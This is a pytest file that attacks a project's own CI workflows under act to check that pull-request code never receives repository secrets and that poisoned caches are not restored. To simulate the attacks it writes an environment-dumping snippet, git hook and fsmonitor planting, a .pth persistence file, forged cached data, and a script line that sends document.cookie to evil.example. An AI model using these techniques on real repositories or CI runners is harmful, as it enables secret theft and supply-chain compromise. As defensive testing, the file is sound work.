"""Issue 20, findings 1 and 2, attacked for real: the shipped workflows run by act (``workflow_harness``), both
flavours, with a unit's pull request doing what its own workflow file and its own tree may do.

- **The bot token in pull-request code** (finding 2): the pull request's tree carries a ``hotline`` that writes its
  whole environment to a file wherever it runs. ``check.yml`` runs it (it is the pull request's program), with
  every repository secret configured: none of them reaches it; the Gitea comment is still posted, by the base
  branch's program (``permissions.yml``), which never runs the pull request's code.
- **Poisoned caches** (finding 1): the cache stand-in keeps one store for the whole repository, newest entry wins,
  and unpacks with ``tar -P`` — as a Gitea runner's cache does. A pull request's own workflow (main's ``site.yml``
  with its event, branch and cache key of its own) builds the site, plants a ``post-checkout`` hook and
  ``core.fsmonitor`` in the ``.git``, a ``.pth`` in the environment, a forged figure in hotline's cache, a page
  and a line of script in ``site/``, and saves them under the keys main uses. The next push to main must run
  none of it and publish none of it. Then main's own saved entries are altered in the store (as if the tag in
  their paths had leaked): the seals reject them, with a notice, and the site is still built and published clean.
"""

from __future__ import annotations

import io
import json
import re
import tarfile
from pathlib import Path

import pytest
from fake_githost import TOKEN, FakeHost
from test_workflow_runs import AS_OF, BAD_ORDER, GOOD_ORDER, with_maintainers
from workflow_harness import REPO, HostedRecords, Runner, git

pytestmark = [pytest.mark.workflows]

CACHE_KEY = "9f1c2e7a5b3d4c6e8a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f"  # the repository's HOTLINE_CACHE_KEY
SECRETS = {
    "HOTLINE_TOKEN": TOKEN,
    "HOTLINE_CACHE_KEY": CACHE_KEY,
    "SITE_SSH_KEY": "-----BEGIN OPENSSH PRIVATE KEY-----site-deploy-key-----END OPENSSH PRIVATE KEY-----",
    "SITE_KNOWN_HOSTS": "web.example.cn ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKnownHostsSecretValue",
}


@pytest.fixture(params=["github", "gitea"])
def flavour(request):
    return request.param


@pytest.fixture
def env(tmp_path, flavour):
    host = FakeHost(flavour=flavour).start()
    records = HostedRecords(tmp_path, host)
    yield host, records, Runner(tmp_path, host, records, flavour)
    host.stop()


def open_pull(host, records: HostedRecords, branch: str, base: str, author: str = "fuyongjia") -> dict:
    status, _, pr = host.create_pull({"title": branch, "head": branch, "base": "main"})
    assert status == 201
    pr = host.pulls[pr["number"]]
    pr["user"] = {"login": author}
    git(records.work, "reset", "-q", "--hard", base)  # the office's clone goes back to main
    return pr


def pull_event(host, pr: dict, base: str, sender: str = "fuyongjia") -> dict:
    n = pr["number"]
    return {
        "action": "synchronize",
        "number": n,
        "sender": {"login": sender},
        "pull_request": {
            "number": n,
            "user": pr["user"],
            "head": {"ref": pr["head"]["ref"], "sha": host.pulls[n]["head"]["sha"]},
            "base": {"ref": "main", "sha": base},
        },
    }


# --- finding 2: the bot token ---------------------------------------------------------------------------

DUMP = """
import json as _json, os as _os
with open({leak!r}, "a", encoding="utf-8") as _f:  # the pull request's hotline: whatever it is given, it keeps
    _f.write(_json.dumps(dict(_os.environ)) + "\\n")
"""


def test_a_pull_requests_own_hotline_never_gets_a_secret_and_the_comment_comes_from_the_base(env, tmp_path):
    host, records, runner = env
    with_maintainers(records)
    base = records.commit("records with maintainers")
    leak = tmp_path / "leak.jsonl"
    cli = records.work / "src" / "hotline" / "cli" / "__init__.py"
    text = cli.read_text(encoding="utf-8")
    head = "from __future__ import annotations\n"
    cli.write_text(text.replace(head, head + DUMP.format(leak=str(leak)), 1), encoding="utf-8")
    records.write("orders/2026/11/JC2026112000777.yaml", BAD_ORDER)
    records.commit("a bad order, and a hotline of my own", branch="evil")
    pr = open_pull(host, records, "evil", base)
    event = pull_event(host, pr, base)

    check = runner.run(
        "check.yml", "pull_request", event, ref=f"refs/pull/{pr['number']}/merge", secrets=SECRETS, env=AS_OF
    )
    assert not check.ok() and "pii-phone" in check.log
    dumped = leak.read_text(encoding="utf-8")  # the pull request's program ran (the attack is real) …
    assert json.loads(dumped.splitlines()[0])["GITHUB_WORKFLOW"]
    for name, value in SECRETS.items():  # … and was given no secret
        assert value not in dumped, name
    assert host.comments.get(pr["number"], []) == []  # check.yml comments on nothing

    before = dumped
    policy = runner.run("permissions.yml", "pull_request_target", event, secrets=SECRETS, env=AS_OF)
    assert not policy.ok() and "pii-phone" in policy.summary
    assert leak.read_text(encoding="utf-8") == before  # the base branch's hotline ran, never the pull request's
    comments = host.comments.get(pr["number"], [])
    if host.flavour == "github":  # annotations show there: no comment
        assert comments == []
        return
    (comment,) = comments  # posted with the bot's token, by the base branch's program
    posted = [who for method, path, who in host.accounts_log if method == "POST" and path.endswith("/comments")]
    assert posted == ["hotline-bot"]
    assert comment["body"].startswith("<!-- hotline:check -->") and "pii-phone" in comment["body"]
    assert "13812345678" not in comment["body"]


# --- finding 1: poisoned caches -------------------------------------------------------------------------

GUESS = "a-fork-has-no-secret-so-it-guesses-one-of-its-own"  # what a pull request's run has for HOTLINE_CACHE_KEY
FORGED = "伪造数据"  # as many UTF-8 bytes as the title it replaces in hotline's cached order data
TITLE = "供暖咨询"

PLANT = """\
      - name: 植入（拉取请求自己的工作流：之后用 main 的键保存缓存）
        run: |
          python3 - <<'EOF'
          import glob, os, pathlib, subprocess
          marker = {marker!r}
          hooks = pathlib.Path(".git/hooks")
          hooks.mkdir(exist_ok=True)
          for name, what in (("post-checkout", "post-checkout"), ("fsmon", "fsmonitor")):
              (hooks / name).write_text(f'#!/bin/sh\\necho {{what}} >> "{{marker}}"\\n')
              (hooks / name).chmod(0o755)
          subprocess.run(["git", "config", "core.fsmonitor", ".git/hooks/fsmon"], check=True)  # run in the work tree
          for sp in glob.glob(os.path.expanduser("~/.cache/hotline-venv/lib/python3*/site-packages")):
              pathlib.Path(sp, "zz_planted.pth").write_text(f"import os; open({{marker!r}}, 'a').write('pth\\\\n')\\n")
          pathlib.Path("site/planted.html").write_text("<script>alert('planted')</script>")
          with open("site/assets/orders.js", "a") as f:
              f.write("\\nfetch('https://evil.example/?' + document.cookie);\\n")
          for p in pathlib.Path(os.path.expanduser("~/.cache/hotline")).rglob("doc-*.msgpack"):
              p.write_bytes(p.read_bytes().replace({title!r}.encode(), {forged!r}.encode()))
          EOF
"""


def attackers_workflow(tmp_path: Path, marker: Path) -> Path:
    """Main's site.yml as a pull request may rewrite it: run on its pull request, as if on a push to main (main's
    cache keys, and the saves that only such a run makes), with a cache key of its own, planting after the build."""
    text = (REPO / ".github" / "workflows" / "site.yml").read_text(encoding="utf-8")
    text = re.sub(r"(?ms)^on:\n.*?^permissions:", "on:\n  pull_request:\n\npermissions:", text)
    text = text.replace("${{ github.event_name }}", "push").replace("${{ github.ref }}", "refs/heads/main")
    text = text.replace("github.event_name == 'push' && github.ref == 'refs/heads/main'", "true")
    assert "github.event_name" not in text and "github.ref" not in text
    text = text.replace("${{ secrets.HOTLINE_CACHE_KEY }}", GUESS)
    anchor = "      - name: 上传网站（GitHub Pages）\n"
    assert anchor in text
    plant = PLANT.format(marker=str(marker), title=TITLE, forged=FORGED)
    path = tmp_path / "attack.yml"
    path.write_text(text.replace(anchor, plant + anchor), encoding="utf-8")
    return path


def published_clean(target: Path, marker: Path) -> None:
    assert not marker.exists(), marker.read_text(encoding="utf-8")  # no hook, no fsmonitor, no .pth ran
    assert (target / "index.html").is_file() and not (target / "planted.html").exists()
    assert (target / "assets" / "orders.js").read_bytes() == (
        REPO / "src" / "hotline" / "site" / "theme" / "site_src" / "assets" / "orders.js"
    ).read_bytes()
    data = (target / "assets" / "data" / "orders" / "2026-11.json").read_text(encoding="utf-8")
    assert TITLE in data and FORGED not in data


def test_a_pull_requests_cache_entries_never_reach_the_site_job(env, tmp_path):
    host, records, runner = env
    records.write("orders/2026/11/JC2026112000778.yaml", GOOD_ORDER)
    base = records.commit("JC2026112000778: 派单")
    records.write("notes/说明.txt", "拉取请求\n")
    records.commit("a pull request", branch="poison")
    pr = open_pull(host, records, "poison", base, author="wangli")
    marker = tmp_path / "ran-planted-code"
    target = tmp_path / "www" / "hotline"
    target.mkdir(parents=True)
    publish = {"SITE_PUBLISH": "copy", "SITE_DEPLOY_TARGET": str(target) + "/"}

    # the pull request's run: a fork's, so no repository secret (GitHub and Gitea withhold them)
    attack = runner.run(
        "site.yml",
        "pull_request",
        pull_event(host, pr, base, sender="wangli"),
        ref=f"refs/pull/{pr['number']}/merge",
        env=AS_OF,
        workspace="hotline",
        source=attackers_workflow(tmp_path, marker),
    )
    assert attack.ok(), attack.log[-5000:]
    assert attack.log.count("Cache saved with key: ") == 3  # .git, environment, hotline's cache and site/
    marker.unlink(missing_ok=True)

    main = runner.run(
        "site.yml", "push", {"ref": "refs/heads/main", "after": base}, vars=publish, secrets=SECRETS, env=AS_OF,
        workspace="hotline",
    )  # fmt: skip
    assert main.ok(), main.log[-5000:]
    assert "Cache restored from key" not in main.log  # nothing saved without the key is even unpacked
    published_clean(target, marker)
    assert main.log.count("Cache saved with key: ") == 3  # main's own, sealed

    # main's own entries, altered in the store as if the tag in their paths had leaked: the seals reject them
    altered = alter_entries(tmp_path / "actions-cache", marker)
    assert altered == {"git", "venv", "site"}
    again = runner.run(
        "site.yml", "push", {"ref": "refs/heads/main", "after": base}, vars=publish, secrets=SECRETS, env=AS_OF,
        workspace="hotline",
    )  # fmt: skip
    assert again.ok(), again.log[-5000:]
    assert again.log.count("Cache restored from key: ") == 3
    for label, name in (("git", ".git"), ("venv", "~/.cache/hotline-venv"), ("site", "site")):
        assert f"缓存 {label} 中的 {name} 未通过校验：内容与封签不符" in again.summary, label
    published_clean(target, marker)


def alter_entries(store: Path, marker: Path) -> set[str]:
    """Plant the same things straight into the archives of the entries in the store (their seals stay)."""
    done = set()
    for entry in store.iterdir():
        if not (entry / "cache.tar").is_file():
            continue
        members = []
        with tarfile.open(entry / "cache.tar") as tar:
            for info in tar.getmembers():
                members.append((info, tar.extractfile(info).read() if info.isfile() else None))
        names = {info.name for info, _ in members}
        extra: list[tuple[str, bytes, int]] = []
        out = []
        for info, data in members:
            if info.name == ".git/config":
                data += b"[core]\n\tfsmonitor = .git/hooks/fsmon\n"
                done.add("git")
            elif info.name.endswith("/site-packages") and info.isdir() and "hotline-venv" in info.name:
                pth = f"import os; open({str(marker)!r}, 'a').write('pth\\n')\n"
                extra.append((info.name + "/zz_planted.pth", pth.encode(), 0o644))
                done.add("venv")
            elif info.name == "site/assets/orders.js":
                data += b"\nfetch('https://evil.example/?' + document.cookie);\n"
                extra.append(("site/planted.html", b"<script>alert('planted')</script>", 0o644))
                done.add("site")
            elif "/scope-site/doc-" in info.name and data is not None:
                data = data.replace(TITLE.encode(), FORGED.encode())
            out.append((info, data))
        if ".git/config" in names:
            hook = f'#!/bin/sh\necho hook >> "{marker}"\n'.encode()
            extra += [(".git/hooks/post-checkout", hook, 0o755), (".git/hooks/fsmon", hook, 0o755)]
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
            for info, data in out:
                if data is not None:
                    info.size = len(data)
                tar.addfile(info, io.BytesIO(data) if data is not None else None)
            for name, data, mode in extra:
                info = tarfile.TarInfo(name)
                info.size, info.mode = len(data), mode
                tar.addfile(info, io.BytesIO(data))
        (entry / "cache.tar").write_bytes(buf.getvalue())
    return done
